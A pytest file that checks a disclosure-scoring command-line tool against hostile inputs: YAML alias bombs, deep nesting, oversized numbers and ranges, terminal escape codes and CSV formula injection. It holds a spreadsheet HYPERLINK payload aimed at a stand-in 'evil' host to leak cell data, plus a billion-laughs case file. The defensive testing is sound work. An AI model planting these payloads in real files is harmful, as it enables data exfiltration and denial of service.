"""Hostile input through the installed command: limits, hygiene and the error boundary.

Each reproduction of issue 16 that belongs to the command line, the case runner or the
calendar reader ends in a diagnostic with its code, exit 0, 1 or 2, no traceback, within
10 s and 1 GB (set by the test on the child process).
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
from installed import EXAMPLES, run, snapshot

from disclosure_rules.errors import Diagnostic
from disclosure_rules.outputs.csv import neutralised
from disclosure_rules.outputs.text import MAX_DIAGNOSTICS_PER_FILE, capped, printable
from disclosure_rules.testing.cases import MAX_ALIAS_NODES, MAX_YAML_DEPTH
from disclosure_rules.workdays import MAX_RANGE_DAYS

Y = "yifeng-2020-townships"
FORMULA = '=HYPERLINK("http://evil/?q="&A1,"x")'
ESCAPES = "a\x1b[31mred\x07"


@pytest.fixture
def work(tmp_path: Path) -> Path:
    shutil.copy(EXAMPLES / f"{Y}.facts.json", tmp_path / "ex.json")
    return tmp_path


def hostile_facts(work: Path, *ids: str) -> str:
    """The example facts with the first units renamed to ``ids``."""
    doc = json.loads((work / "ex.json").read_text(encoding="utf-8"))
    for unit, uid in zip(doc["units"], ids, strict=False):
        unit["id"] = uid
    (work / "hostile.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return "hostile.json"


# ---------------------------------------------------------------- case files (YAML)


def test_a_billion_laughs_case_file_is_refused_quickly(work: Path) -> None:
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        levels.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    text = f"ruleset: {Y}\n" + "\n".join(levels) + "\ncases: [*i]\n"
    assert len(text.encode()) < 1000
    (work / "laughs.yaml").write_text(text, encoding="utf-8")
    result = run("test", "laughs.yaml", cwd=work)
    assert result.returncode == 1
    assert "laughs.yaml: error: DR602 aliases expand the case file by" in result.stderr
    assert f"the limit is {MAX_ALIAS_NODES:,}" in result.stderr


def test_a_self_containing_alias_is_refused(work: Path) -> None:
    (work / "self.yaml").write_text("x: &x [*x]\n", encoding="utf-8")
    result = run("test", "self.yaml", cwd=work)
    assert result.returncode == 1 and "DR602 an alias in the case file contains itself" in (
        result.stderr
    )


def test_a_deeply_nested_case_file_is_refused(work: Path) -> None:
    (work / "deep.yaml").write_text("a: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    result = run("test", "deep.yaml", cwd=work)
    assert result.returncode == 1
    assert f"DR603 the case file nests deeper than {MAX_YAML_DEPTH} levels" in result.stderr


def test_shared_defaults_by_alias_stay_within_the_bound(work: Path) -> None:
    text = f"""ruleset: {Y}
defaults: &d {{id: 新昌镇, tags: [township], facts: {{}}}}
cases:
  - name: one
    units: [*d]
    expect: {{新昌镇: {{total: 30}}}}
"""
    (work / "ok.yaml").write_text(text, encoding="utf-8")
    result = run("test", "ok.yaml", cwd=work)
    assert "DR602" not in result.stderr


def test_a_folder_without_case_files_is_an_error(work: Path) -> None:
    (work / "empty").mkdir()
    result = run("test", "empty", cwd=work)
    assert result.returncode == 1 and "DR311 no test cases found" in result.stderr


# ---------------------------------------------------------------- calendars


def test_a_calendar_range_of_ten_thousand_years_is_refused_quickly(work: Path) -> None:
    (work / "cal.json").write_text(
        '{"year": 2027, "holidays": ["0001-01-01..9999-12-31"]}', encoding="utf-8"
    )
    result = run("score", Y, "ex.json", "--calendar", "cal.json", cwd=work)
    assert result.returncode == 1
    assert (
        "DR605 range '0001-01-01..9999-12-31' spans 3,652,059 days; a schedule covers one "
        f"year, so a range is at most {MAX_RANGE_DAYS} days"
    ) in result.stderr


def test_a_range_ending_on_the_last_representable_day_is_not_an_overflow(work: Path) -> None:
    (work / "cal.json").write_text(
        '{"year": 2027, "holidays": ["9999-12-30..9999-12-31"]}', encoding="utf-8"
    )
    result = run("score", Y, "ex.json", "--calendar", "cal.json", cwd=work)
    assert result.returncode == 1
    assert "DR502 calendar for 2027: 9999-12-30 is not in 2027" in result.stderr


def test_a_deeply_nested_calendar_is_a_diagnostic(work: Path) -> None:
    (work / "cal.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = run("score", Y, "ex.json", "--calendar", "cal.json", cwd=work)
    assert result.returncode == 1
    assert "DR603 the calendar file nests deeper than JSON can be read here" in result.stderr


# ---------------------------------------------------------------- output hygiene


def test_csv_cells_that_would_be_formulas_are_neutralised(work: Path) -> None:
    facts = hostile_facts(work, FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "\rx")
    result = run("score", Y, facts, "--format", "csv", "-o", "out.csv", cwd=work)
    assert result.returncode == 0
    with open(work / "out.csv", encoding="utf-8", newline="") as fh:  # keep the \r cell
        rows = list(csv.DictReader(fh))
    units = {r["unit"] for r in rows}
    assert {"'" + FORMULA, "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx"} <= units
    assert all(not r["unit"].startswith(("=", "+", "-", "@")) for r in rows)


def test_numbers_the_tool_writes_are_not_neutralised() -> None:
    assert neutralised("-2") == "'-2"  # as text from the input it would be
    # … but scores are written as numbers, never through neutralised(): see outputs/csv.py
    assert neutralised("新昌镇") == "新昌镇"


@pytest.mark.parametrize("fmt", ["table", "explain"])
def test_control_characters_are_escaped_in_human_readable_output(work: Path, fmt: str) -> None:
    facts = hostile_facts(work, ESCAPES, "b\x00c")
    if fmt == "table":
        result = run("score", Y, facts, cwd=work)
    else:
        result = run("explain", Y, facts, "--unit", ESCAPES, cwd=work)
    assert result.returncode == 0
    assert "a\\x1b[31mred\\x07" in result.stdout
    assert fmt != "table" or "b\\x00c" in result.stdout
    assert not any(c in result.stdout for c in "\x1b\x07\x00")


def test_control_characters_are_escaped_in_diagnostics(work: Path) -> None:
    result = run("explain", Y, "ex.json", "--unit", ESCAPES, cwd=work)
    assert result.returncode == 1
    assert "a\\x1b[31mred\\x07" in result.stderr and "\x1b" not in result.stderr


def test_a_lone_surrogate_is_escaped_in_a_table_and_refused_in_json(work: Path) -> None:
    (work / "s.json").write_text(
        (work / "ex.json").read_text(encoding="utf-8").replace('"新昌镇"', '"\\ud800"', 1),
        encoding="utf-8",
    )
    table = run("score", Y, "s.json", cwd=work)
    assert table.returncode == 0 and "\\ud800" in table.stdout
    result = run("score", Y, "s.json", "--format", "json", cwd=work)
    assert result.returncode == 1
    assert "DR615 the output holds text no encoding can write (U+D800" in result.stderr
    result = run("score", Y, "s.json", "--format", "json", "-o", "out.json", cwd=work)
    assert result.returncode == 1 and "DR615" in result.stderr
    assert not (work / "out.json").exists()


def test_printable_leaves_ordinary_text_alone() -> None:
    text = "新昌镇  总分 total 88.63 / 100\n\t「附注1」"
    assert printable(text) is text or printable(text) == text


# ---------------------------------------------------------------- diagnostics cap


def test_diagnostics_are_capped_per_file() -> None:
    many = [Diagnostic("DR304", f"problem {i}", file="f.json") for i in range(120)]
    other = [Diagnostic("DR304", "elsewhere", file="g.json")]
    lines = capped([*many, *other]).splitlines()
    assert len(lines) == MAX_DIAGNOSTICS_PER_FILE + 2
    assert lines[-1] == (
        f"f.json: note: DR604 … and 70 more diagnostic(s) not shown (at most "
        f"{MAX_DIAGNOSTICS_PER_FILE} are printed per file)"
    )


def test_check_caps_its_diagnostics_through_the_command(work: Path) -> None:
    body = "".join(f'section s{i} "节" 5 {{ item a{i} "甲" 2 }}\n' for i in range(80))
    (work / "many.dr").write_text(f'ruleset m {{ title "t"\n{body}}}\n', encoding="utf-8")
    result = run("check", "many.dr", cwd=work)
    assert result.returncode == 1
    assert result.stderr.count("error: DR103") == MAX_DIAGNOSTICS_PER_FILE
    assert "many.dr: note: DR604 … and 30 more diagnostic(s) not shown" in result.stderr


# ---------------------------------------------------------------- the error boundary


def test_debug_shows_the_traceback(work: Path) -> None:
    result = run("verify", "/dev/zero", "--debug", cwd=work, check_traceback=False)
    assert result.returncode == 1
    assert "Traceback" in result.stderr and "DR600" in result.stderr


def test_usage_errors_exit_2(work: Path) -> None:
    assert run("score", Y, "ex.json", "--param", "x", cwd=work).returncode == 2
    assert run("explain", "--unit", "x", cwd=work).returncode == 2
    assert run("nonsense", cwd=work).returncode == 2


def test_an_unexpected_error_is_a_diagnostic_with_a_code(monkeypatch, capsys) -> None:
    from disclosure_rules import cli
    from disclosure_rules.cli import commands

    def broken(args: object) -> int:
        raise KeyError("boom")

    monkeypatch.setattr(commands, "_cmd_list", broken)  # what the parser dispatches `list` to
    assert cli.main(["list"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("disclosure-rules: error: DR620 unexpected error: KeyError: 'boom'")
    assert "--debug shows where it happened" in err and "Traceback" not in err


# ---------------------------------------------------------------- issue 16, every reproduction
#
# Each reproduction of issue 16 runs through the installed command here or in the test
# named beside it (all of them through tests/installed.py: no traceback, exit 0, 1 or 2,
# 10 s, 1 GB), and the folder is as it was afterwards:
#
#   files clobbered          test_files_cli: symlink, FIFO, device, folder, mode, the input
#                            facts as -o, fmt -w, SIGTERM (no temporary file left)
#   billion laughs, YAML     test_a_billion_laughs_case_file_is_refused_quickly,
#                            test_a_deeply_nested_case_file_is_refused (above)
#   calendar file range      test_a_calendar_range_of_ten_thousand_years_is_refused_quickly
#   /dev/zero, FIFO inputs   test_files_cli: test_devices_and_fifos_as_input_end_in_a_diagnostic…
#   -o dir/missing/ro/""     test_files_cli: test_a_refused_output_is_a_diagnostic_and_changes…
#   stdout closed or full    test_files_cli: test_standard_output_closed_early_…, …_full_…
#   lone surrogate           test_a_lone_surrogate_is_escaped_in_a_table_and_refused_in_json
#   explain --results (16)   test_verify.test_explain_on_a_malformed_results_file_is_a_diagnostic
#   edited total …           test_verify: test_a_tampered_results_file_does_not_verify, explain…
#   CSV formulas, ESC/BEL    test_csv_cells_that_would_be_formulas_are_neutralised,
#                            test_control_characters_are_escaped_in_human_readable_output
#   test on an empty folder  test_a_folder_without_case_files_is_an_error
#   the Python API           test_api_misuse (not a command: the API's exception contract)
#   everything else          REPRODUCTIONS below

FACTS_FIXTURES = Path(__file__).parent / "fixtures" / "facts"
T_RULESET = """ruleset t {
  title "t"
  tags dept, town
  policy { evidence optional }
  item hearing "听取意见" 2
  item appeals "行政复议" 2 { deduct 1 per overturned_reviews deduct 2 per lost_lawsuits }
  item met_item "按时公开" 2 { all_or_nothing }
  item reply "按时答复" 2 { deduct 1 when late within 7 days of asked }
}
"""
SMALL = (
    'ruleset s {\n  title "s"\n  section a "a" 10 {\n    item b "b" 10 {\n      %s\n    }\n  }\n}\n'
)


def _facts(work: Path, name: str, facts: object) -> None:
    doc = {"units": [{"id": "u", "tags": ["town"], "facts": facts}]}
    (work / name).write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def _setup(work: Path) -> None:
    """Every input of the reproductions below, written before the folder's snapshot."""
    (work / "t.dr").write_text(T_RULESET, encoding="utf-8")
    for fixture in FACTS_FIXTURES.iterdir():
        shutil.copy(fixture, work / fixture.name)
    calendar = "calendar { year 2030 holidays 0001-01-01..9999-12-31 }"
    (work / "holidays.dr").write_text(
        SMALL.replace("\n}\n", f"\n  {calendar}\n}}\n") % "deduct 1 per n", encoding="utf-8"
    )
    (work / "deadline.dr").write_text(
        SMALL % "zero when not published within 999999999999 days of formed", encoding="utf-8"
    )
    (work / "nots.dr").write_text(SMALL % f"zero when {'not ' * 1000}n > 1", encoding="utf-8")
    (work / "a.dr").write_text(SMALL % "deduct 1 per n", encoding="utf-8")
    (work / "c.dr").write_text(SMALL % "deduct 2 per n", encoding="utf-8")
    (work / "digits.dr").write_text(SMALL % f"deduct {'9' * 5001} per n", encoding="utf-8")
    count = "1" + "0" * 5000  # as written in the file: Python's int() refuses it
    (work / "count5001.json").write_text(
        '{"units": [{"id": "u", "facts": {"appeals": {"overturned_reviews": ' + count + "}}}]}",
        encoding="utf-8",
    )
    _facts(work, "exponent.json", {"appeals": {"overturned_reviews": "1e1000000"}})
    (work / "deep.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    cell = "x" * (128 * 1024 + 1)
    (work / "cell.csv").write_text(
        f"unit,tags,node,field,value,kind\nu,town,hearing,awarded,{cell},\n", encoding="utf-8"
    )
    _facts(work, "padded.json", {"reply": {"late": {"asked": "2020-01-01" + " " * 30_000 + "x"}}})
    units = [
        {"id": f"u{i}", "tags": ["town"], "facts": {"appeals": {"overturned_reviews": "x"}}}
        for i in range(20_000)
    ]
    (work / "errors.json").write_text(json.dumps({"units": units}), encoding="utf-8")


# (name, arguments, exit status, what standard error must say)
REPRODUCTIONS = [
    ("ruleset calendar 0001..9999", ["check", "holidays.dr"], 1, "DR010"),
    ("ruleset calendar, scored", ["score", "holidays.dr", "ex.json"], 1, "DR010"),
    ("within 999999999999 days: check", ["check", "deadline.dr"], 1, "DR136"),
    ("within 999999999999 days: score", ["score", "deadline.dr", "ex.json"], 1, "DR136"),
    ("--param x=1e999999999", ["score", "t.dr", "ex.json", "--param", "x=1e999999999"], 1, "DR113"),
    (
        "--param out of range",
        ["score", "jingan-2020-evaluation", "ex.json", "--param", "publicity_days=1e999999999"],
        1,
        "out of range: a parameter has at most 40 digits",
    ),
    (
        "--param Infinity",
        ["score", "jingan-2020-evaluation", "ex.json", "--param", "publicity_days=Infinity"],
        1,
        "is not a number",
    ),
    ("1,000 chained not", ["check", "nots.dr"], 1, "DR005 nesting is deeper than 64 levels"),
    ("check A B C, B too deep", ["check", "a.dr", "nots.dr", "c.dr"], 1, "DR005"),
    (
        "a 5,001-digit number in a ruleset",
        ["check", "digits.dr"],
        1,
        "DR011 this number has 5,001 digits",
    ),
    ("a count with 5,001 digits", ["score", "t.dr", "count5001.json"], 1, "DR312"),
    ('"1e1000000"', ["score", "t.dr", "DR312-huge-exponent.json"], 1, "DR312"),
    ("JSON nested 100,000 deep", ["score", "t.dr", "deep.json"], 1, "DR313"),
    ("a CSV cell over 128 KiB", ["score", "t.dr", "cell.csv"], 1, "DR314"),
    ("a date padded with 30,000 spaces", ["score", "t.dr", "padded.json"], 1, "DR310"),
    ('"synthetic": "false"', ["score", "t.dr", "DR305-synthetic-as-text.json"], 1, "DR305"),
    ("a ragged CSV row", ["score", "t.dr", "DR301-ragged-row.csv"], 1, "DR301 row 2 has 7 cells"),
    ("20,000 units of errors", ["score", "t.dr", "errors.json"], 1, "DR604"),
]


@pytest.mark.parametrize(
    ("args", "status", "says"), [r[1:] for r in REPRODUCTIONS], ids=[r[0] for r in REPRODUCTIONS]
)
def test_issue_16_reproduction(work: Path, args: list[str], status: int, says: str) -> None:
    _setup(work)
    if "jingan-2020-evaluation" in args:
        shutil.copy(EXAMPLES / "jingan-2020-evaluation.facts.json", work / "ex.json")
    before = snapshot(work)
    result = run(*args, cwd=work)
    assert result.returncode == status, result.stderr[-2000:]
    assert says in result.stderr, result.stderr[-2000:]
    assert snapshot(work) == before


def test_check_goes_on_to_the_next_ruleset_after_one_that_nests_too_deeply(work: Path) -> None:
    _setup(work)
    result = run("check", "a.dr", "nots.dr", "c.dr", cwd=work)
    assert result.stdout.splitlines() == [
        "a.dr: ok, 0 warning(s)",
        "nots.dr: 1 error(s), 0 warning(s)",
        "c.dr: ok, 0 warning(s)",
    ]


def test_diagnostics_of_a_file_of_errors_are_capped(work: Path) -> None:
    _setup(work)
    result = run("score", "t.dr", "errors.json", cwd=work)
    assert len(result.stderr) < 100_000  # 20,000 errors, but a screenful of them


def test_json_output_of_a_large_cohort_succeeds_or_ends_in_a_diagnostic(work: Path) -> None:
    # JSON output is built in memory (streaming it is a separate matter): under a memory
    # limit too small for it, the run ends in DR620 and leaves no file, never a traceback.
    doc = json.loads((work / "ex.json").read_text(encoding="utf-8"))
    doc["units"] = [
        {**unit, "id": f"{unit['id']}-{copy}"} for copy in range(10) for unit in doc["units"]
    ]
    (work / "big.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    before = snapshot(work)
    result = run(
        "score", Y, "big.json", "--format", "json", "-o", "out.json", cwd=work, memory=140 * 1024**2
    )
    if result.returncode == 0:
        assert len(json.loads((work / "out.json").read_text(encoding="utf-8"))["units"]) == 150
    else:
        assert result.returncode == 1 and "DR620 out of memory" in result.stderr
        assert snapshot(work) == before  # no output, no temporary file
